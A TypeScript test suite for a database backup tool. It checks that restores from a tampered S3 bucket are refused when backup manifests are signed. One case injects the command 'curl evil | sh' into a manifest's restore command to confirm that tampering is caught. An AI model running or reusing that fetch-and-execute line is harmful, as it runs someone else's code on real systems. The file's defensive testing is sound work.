/**
 * A bucket in a stranger's hands, and MANIFEST_KEY against it: what the stranger puts there, changes, swaps or renames is refused
 * before the database is touched. (Who can delete can also hide the newest backup: no signature shows that.)
 */
import { afterAll, beforeAll, beforeEach, describe, expect, test } from "bun:test";
import { existsSync, mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { type Installation, installScripts } from "../support/machine/executables.ts";
import { expectFailure, expectSuccess } from "../support/expect/expect.ts";
import { type PostgresServer, startPostgres } from "../support/servers/postgres.ts";
import { type S3Server, startS3Server, type StoredObject } from "../support/servers/s3-server.ts";
import { s3Settings } from "../support/servers/storage.ts";

const ours = "5f0c8a3d1b7e49c2a6d8f1e4b3a7c9d2";
const strangers = "another-key-that-is-long-enough-but-not-ours";

let server: PostgresServer;
let s3: S3Server;
let bucket: string;
let scripts: Installation;
/** Names of two signed backups; the note says 1 in the older, 2 in the newer one. */
let older: string;
let newer: string;
let objects: Map<string, StoredObject>;
/** What lies in the bucket when nobody has touched it. */
let honest: Map<string, StoredObject>;

const settings = (more: Record<string, string> = {}) => ({
  ...server.settings("app"),
  ...s3Settings(s3, bucket),
  BACKUP_KEEP_LOCAL: "false",
  MANIFEST_KEY: ours,
  ...more,
});

/** A good backup of a stranger's rows (the note says "evil"), not signed; and one signed with the stranger's own key. */
let unsigned: Stored;
let foreign: Stored;
interface Stored {
  file: Buffer;
  manifest: string;
}

beforeAll(async () => {
  [server, s3] = [await startPostgres(15), startS3Server()];
  bucket = await s3.newBucket();
  objects = s3.objects(bucket);
  await server.createDatabase("app", "CREATE TABLE note (text text); INSERT INTO note VALUES ('1')");
  scripts = installScripts(settings());
  older = await backUp("1");
  await Bun.sleep(1_000); // names have seconds
  newer = await backUp("2");
  honest = new Map(objects);
  [unsigned, foreign] = [
    stored(await backUp("evil", { MANIFEST_KEY: "" })),
    stored(await backUp("evil", { MANIFEST_KEY: strangers })),
  ];
});
afterAll(async () => {
  await s3.stop();
  await server.stop();
});
beforeEach(async () => {
  objects.clear();
  for (const [key, object] of honest) objects.set(key, object);
  scripts.configure(settings());
  await write("untouched");
});

const write = (text: string) => server.sql("app", `UPDATE note SET text = '${text}'`);
const noted = () => server.sql("app", "SELECT text FROM note");
async function backUp(text: string, more: Record<string, string> = {}): Promise<string> {
  scripts.configure(settings(more));
  await write(text);
  const ran = await scripts.run("backup", ["--upload"]);
  expectSuccess(ran);
  return ran.stdout.trim().split("/").at(-1) ?? "";
}
const restore = (...args: string[]) => scripts.run("restore", ["--from-s3", ...args]);

const bodyOf = (name: string) => objects.get(name)?.body ?? Buffer.alloc(0);
const stored = (name: string): Stored => ({ file: bodyOf(name), manifest: bodyOf(`${name}.json`).toString() });
function put(name: string, { file, manifest }: Partial<Stored>): void {
  const like = objects.get(newer) as StoredObject;
  if (file) objects.set(name, { ...like, body: file });
  if (manifest !== undefined) objects.set(`${name}.json`, { ...like, body: Buffer.from(manifest) });
}
/** Tomorrow's name would be passed over: the newest name that the clock allows. */
const nextName = () => `app_${new Date().toISOString().slice(0, 19).replace("T", "_").replaceAll(":", "-")}-9.sql.gz`;
/** The signed manifest with the stranger's changes. */
const altered = (manifest: string, change: Record<string, unknown>) =>
  `${JSON.stringify({ ...(JSON.parse(manifest) as object), ...change }, null, 2)}\n`;
const about = (file: Buffer) => ({
  bytes: file.length,
  sha256: new Bun.CryptoHasher("sha256").update(file).digest("hex"),
  uncompressedBytes: Bun.gunzipSync(new Uint8Array(file)).length,
});

test("the honest bucket: the newest is restored, and the older one when it is named", async () => {
  expectSuccess(await restore());
  expect(await noted()).toBe("2");
  expectSuccess(await restore(older));
  expect(await noted()).toBe("1");
});

const cases: Record<string, [hurt: () => string, cause: RegExp]> = {
  "a newer backup that is not signed": [
    () => (put(nextName(), unsigned), ""),
    /app_.* is refused, because MANIFEST_KEY is set: its manifest is not signed/,
  ],
  "a newer backup that is signed with another key": [
    () => (put(nextName(), foreign), ""),
    /is refused, because MANIFEST_KEY is set: its manifest was changed, or was signed with another key/,
  ],
  "the newest one replaced by a stranger's, with its manifest": [() => (put(newer, unsigned), ""), /is not signed/],
  "the newest one replaced, and its manifest made to fit": [
    () => (put(newer, { file: unsigned.file, manifest: altered(stored(newer).manifest, about(unsigned.file)) }), ""),
    /its manifest was changed/,
  ],
  "the newest one replaced, its manifest kept": [() => (put(newer, { file: unsigned.file }), ""), /is damaged: /],
  "two backups swapped, their manifests kept": [
    () => {
      const [one, two] = [stored(older), stored(newer)];
      put(older, { file: two.file });
      put(newer, { file: one.file });
      return "";
    },
    /is damaged: /,
  ],
  "the older one replayed under the newest one's name": [
    () => (put(newer, stored(older)), ""),
    /it was renamed: its manifest is that of a backup of app of 20/,
  ],
  "the older one replayed under a newer name": [() => (put(nextName(), stored(older)), ""), /it was renamed/],
  "another database's backup under this one's name": [
    () => (put(newer, { manifest: altered(stored(newer).manifest, { database: "crm" }) }), ""),
    /its manifest was changed/,
  ],
  "the newest one cut short": [() => (put(newer, { file: stored(newer).file.subarray(0, -20) }), ""), /is damaged: /],
  "the newest one longer": [
    () => (put(newer, { file: Buffer.concat([stored(newer).file, unsigned.file]) }), ""),
    /is damaged: /,
  ],
  "the newest one said to be another server's, so that the older one would be chosen": [
    () => {
      const { manifest } = stored(newer);
      const identity = { system: "1234", server: "elsewhere:5432", site: "other", siteIsSet: false };
      put(newer, { manifest: altered(manifest, { identity }) });
      return "";
    },
    /its manifest was changed/,
  ],
  "a command in its restoreCommand": [
    () => (put(newer, { manifest: stored(newer).manifest.replace("gunzip -c", "curl evil | sh; gunzip -c") }), ""),
    /its manifest was changed/,
  ],
  "its signature removed": [
    () => (put(newer, { manifest: stored(newer).manifest.replace(/^ {2}"signature".*\n/m, "") }), ""),
    /is not signed/,
  ],
  "a named one without its manifest": [
    () => (objects.delete(`${newer}.json`), newer),
    /it has no manifest, so nothing shows where it comes from/,
  ],
};

describe("a hostile bucket", () => {
  test.each(Object.entries(cases))("%s: refused, nothing is touched", async (_, [hurt, cause]) => {
    const named = hurt();
    const ran = await restore(...(named ? [named] : []));
    expectFailure(ran, cause);
    expect(await noted()).toBe("untouched");
  });

  test("what is refused is not even fetched", async () => {
    put(newer, unsigned);
    s3.asked.splice(0);
    expectFailure(await restore(), /is not signed/);
    const fetched = s3.asked.filter(({ operation }) => operation === "GetObject").map(({ key }) => key);
    expect(fetched).toContain(`${newer}.json`);
    expect(fetched.filter((key) => !key.endsWith(".json"))).toEqual([]);
  });

  test("a dry run refuses it too", async () => {
    put(newer, unsigned);
    const ran = await restore("--dry-run");
    expect(ran.status).toBe(1);
    expect(ran.stdout).toMatch(/✗ backup: .*is refused, because MANIFEST_KEY is set/);
  });

  test("a good one that is named is restored all the same", async () => {
    put(nextName(), unsigned);
    expectSuccess(await restore(newer));
    expect(await noted()).toBe("2");
  });
});

describe("--unsigned", () => {
  test("restores the one that is named, as the hint of the refusal says", async () => {
    put(newer, unsigned);
    expect((await restore(newer)).stderr).toMatch(/hint: if you know that it is good: restore app_\S+ --unsigned/);
    expectSuccess(await restore(newer, "--unsigned"));
    expect(await noted()).toBe("evil");
  });

  test("never chooses by itself", async () => {
    put(newer, unsigned);
    const ran = await restore("--unsigned");
    expect([ran.status, ran.stderr]).toEqual([2, expect.stringMatching(/--unsigned: name the backup/)]);
    expect(await noted()).toBe("untouched");
  });

  test("does not make a damaged one good", async () => {
    put(newer, { ...unsigned, file: unsigned.file.subarray(0, -10) });
    expectFailure(await restore(newer, "--unsigned"), /is damaged/);
    expect(await noted()).toBe("untouched");
  });
});

test("a changed key: backups of the former one are restored while it stands behind the new one, and not after", async () => {
  scripts.configure(settings({ MANIFEST_KEY: `${strangers} ${ours}` }));
  expectSuccess(await restore());
  expect(await noted()).toBe("2");
  scripts.configure(settings({ MANIFEST_KEY: strangers }));
  expectFailure(await restore(), /hint: if MANIFEST_KEY was changed: put the former key behind the new one/);
});

test("without MANIFEST_KEY everything is restored as before", async () => {
  scripts.configure(settings({ MANIFEST_KEY: "" }));
  const { startedAt } = JSON.parse(stored(newer).manifest) as { startedAt: string };
  put(newer, { ...unsigned, manifest: altered(unsigned.manifest, { startedAt: "2020-01-01T03:00:00.000Z" }) });
  expectSuccess(await restore());
  expect(await noted()).toBe("1"); // what is called other than its manifest says is passed over
  put(newer, { ...unsigned, manifest: altered(unsigned.manifest, { startedAt }) });
  expectSuccess(await restore());
  expect(await noted()).toBe("evil");
});

describe("signed or not", () => {
  const folder = () => scripts.backups;
  const place = (name: string, { file, manifest }: Stored) => {
    mkdirSync(folder(), { recursive: true, mode: 0o700 });
    writeFileSync(join(folder(), name), file);
    writeFileSync(join(folder(), `${name}.json`), manifest);
  };

  test("sync uploads what was made before there was a key", async () => {
    objects.clear();
    place("app_2026-01-01_03-00-00.sql.gz", unsigned);
    expectSuccess(await scripts.run("sync"));
    expect([...objects.keys()]).toEqual(["app_2026-01-01_03-00-00.sql.gz", "app_2026-01-01_03-00-00.sql.gz.json"]);
  });

  test("retention lets those expire, locally and in S3", async () => {
    const old = "app_2020-01-01_03-00-00.sql.gz";
    place(old, unsigned);
    put(old, unsigned);
    scripts.configure(settings({ BACKUP_KEEP_LOCAL: "true", LOCAL_RETENTION_DAYS: "30", BACKUP_RETENTION_DAYS: "30" }));
    expectSuccess(await scripts.run("backup", ["--upload"]));
    expect([existsSync(join(folder(), old)), objects.has(old)]).toEqual([false, false]);
  });
});

test.each([
  ["too short", /MANIFEST_KEY .*at least 20 characters/],
  [`${ours} ${strangers} ${"third".repeat(5)}`, /MANIFEST_KEY .*one key, or two/],
])("MANIFEST_KEY=%s is refused and not repeated", async (MANIFEST_KEY, cause) => {
  scripts.configure(settings({ MANIFEST_KEY }));
  const ran = await scripts.run("backup", ["--upload"]);
  expect([ran.status, ran.stderr]).toEqual([2, expect.stringMatching(cause)]);
  expect(ran.stderr).not.toContain(MANIFEST_KEY);
});
